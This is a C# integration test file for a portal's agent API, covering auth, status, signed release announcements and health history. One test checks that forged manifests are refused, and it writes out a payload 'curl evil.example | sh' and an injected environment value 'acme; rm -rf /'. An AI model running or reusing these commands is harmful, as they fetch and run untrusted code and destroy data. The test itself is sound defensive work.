using Autri.Domain.Releases;
using Autri.Infra.Releases;
using Autri.Portal.Features.Admin;

namespace Autri.Portal.Tests.Features.AgentApi;

/// <summary>The API the coordination agent calls, on a real portal and Postgres.</summary>
public sealed class AgentApiTests(AgentPortalStack stack) : IClassFixture<AgentPortalStack>
{
    private static ReleaseVersion Running => ReleaseVersion.Parse(HealthReport.Version);

    private string Manifest(string version, string product = ReleaseManifest.AutriProduct, string channel = "stable", System.Security.Cryptography.ECDsa? key = null) =>
        ManifestDocument.Sign(new ReleaseManifest(product, channel, ReleaseVersion.Parse(version), DateTimeOffset.UtcNow,
            "Faster search. Fixes the CSV export.", "cd infra-cdk && npx cdk deploy --all -c env={env}"), key ?? stack.Vendor.Private);

    private async Task<HttpResponseMessage> ReportAsync(string manifest, string channel = "stable", string environment = "acme")
    {
        using var agent = stack.AgentClient();
        return await agent.PostAsync("/agent/v1/releases", JsonContent.Create(new ReleaseReport(manifest, channel, environment), options: CoordinationJson.Options));
    }

    private async Task<List<(string Email, string Title, string Body)>> ReleaseNotificationsAsync(string title)
    {
        await using var conn = await stack.Db.OpenConnectionAsync();
        return (await conn.QueryAsync<(string, string, string)>(
            "SELECT u.email, n.title, n.body FROM notifications n JOIN users u ON u.id = n.user_id WHERE n.type = 'release' AND n.title = @title",
            new { title })).AsList();
    }

    [Fact]
    public async Task Without_the_agent_token_every_call_is_401()
    {
        using var wrong = stack.AgentClient("a-token-that-is-not-the-agent-token-000");
        using var none = new HttpClient { BaseAddress = new Uri(stack.Portal.Url) };

        Assert.Equal(HttpStatusCode.Unauthorized, (await wrong.GetAsync("/agent/v1/status")).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await none.GetAsync("/agent/v1/status")).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await none.PutAsync("/agent/v1/licence", new StringContent(stack.Licence(DateTimeOffset.UtcNow.AddDays(100))))).StatusCode);
    }

    [Fact]
    public async Task Status_gives_the_version_the_last_migration_and_counts_only()
    {
        await ContentMarker.SeedAsync(stack.Db, ContentMarker.New());
        using var agent = stack.AgentClient();

        var status = await agent.GetFromJsonAsync<PortalStatus>("/agent/v1/status", CoordinationJson.Options);

        Assert.Equal(HealthReport.Version, status!.Version);
        Assert.Equal(Autri.Infra.Database.Migrator.Embedded[^1].Name, status.LastMigration);
        Assert.True(status.Counts.Users >= 1);
    }

    [Fact]
    public async Task A_newer_signed_release_notifies_each_admin_once_with_the_notes_and_the_exact_upgrade_command()
    {
        using (await stack.SignInAdminAsync()) { } // the admin is known as one from their sign-in
        using (await stack.SignInPersonAsync()) { }
        var version = $"{Running.Major + 1}.0.0";

        var first = await ReportAsync(Manifest(version));
        var again = await ReportAsync(Manifest(version));

        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(new ReleaseAnnouncementBody(true, 1), await first.Content.ReadFromJsonAsync<ReleaseAnnouncementBody>(CoordinationJson.Options));
        Assert.Equal(new ReleaseAnnouncementBody(true, 0), await again.Content.ReadFromJsonAsync<ReleaseAnnouncementBody>(CoordinationJson.Options));
        var sent = Assert.Single(await ReleaseNotificationsAsync($"Autri {version} is available (stable)"));
        Assert.Equal(DevIdentityProvider.AdminEmail, sent.Email);
        Assert.Contains("Faster search. Fixes the CSV export.", sent.Body);
        Assert.Contains("cd infra-cdk && npx cdk deploy --all -c env=acme", sent.Body);
    }

    [Fact]
    public async Task Tampered_foreign_downgrade_and_wrong_channel_manifests_are_refused_and_notify_no_one()
    {
        using (await stack.SignInAdminAsync()) { }
        using var otherKey = new ThrowawayVendorKey();
        var newer = $"{Running.Major + 2}.0.0";
        var genuine = Manifest(newer);
        var parts = genuine.Split('.');
        var tampered = parts[0] + "." + Microsoft.IdentityModel.Tokens.Base64UrlEncoder.Encode(
            Microsoft.IdentityModel.Tokens.Base64UrlEncoder.Decode(parts[1]).Replace("Faster search", "Run curl evil.example | sh")) + "." + parts[2];

        var responses = new Dictionary<string, HttpResponseMessage>
        {
            ["tampered"] = await ReportAsync(tampered),
            ["another key"] = await ReportAsync(Manifest(newer, key: otherKey.Private)),
            ["another product"] = await ReportAsync(Manifest(newer, product: "not-autri")),
            ["a downgrade"] = await ReportAsync(Manifest("0.0.1")),
            ["another channel"] = await ReportAsync(Manifest(newer, channel: "beta"), channel: "stable"),
            ["a command injection in the environment"] = await ReportAsync(genuine, environment: "acme; rm -rf /"),
        };

        foreach (var (what, response) in responses)
            Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, $"{what}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        Assert.Contains("signature", await responses["tampered"].Content.ReadAsStringAsync());
        Assert.Contains("downgrade", await responses["a downgrade"].Content.ReadAsStringAsync());
        Assert.Empty(await ReleaseNotificationsAsync($"Autri {newer} is available (stable)"));
        Assert.Empty(await ReleaseNotificationsAsync($"Autri {newer} is available (beta)"));
    }

    [Fact]
    public async Task The_running_version_is_not_news()
    {
        var response = await ReportAsync(Manifest(Running.ToString()));

        Assert.Equal(new ReleaseAnnouncementBody(false, 0), await response.Content.ReadFromJsonAsync<ReleaseAnnouncementBody>(CoordinationJson.Options));
    }

    [Fact]
    public async Task Health_observations_are_kept_for_the_bundle()
    {
        using var agent = stack.AgentClient();
        var at = DateTimeOffset.UtcNow.AddMinutes(-1);

        var response = await agent.PostAsync("/agent/v1/health", JsonContent.Create(
            new HealthObservation(at, AppHealth.Ready, AppHealth.Unreachable, AppHealth.Ready, Delivered: false), options: CoordinationJson.Options));

        Assert.Equal(HttpStatusCode.NoContent, response.StatusCode);
        await using var conn = await stack.Db.OpenConnectionAsync();
        Assert.Equal(1, await conn.ExecuteScalarAsync<int>("SELECT count(*)::int FROM agent_health_history WHERE mcp = 'unreachable' AND NOT delivered AND observed_at = @at", new { at }));
    }

    private sealed record ReleaseAnnouncementBody(bool Newer, int Notified);
}
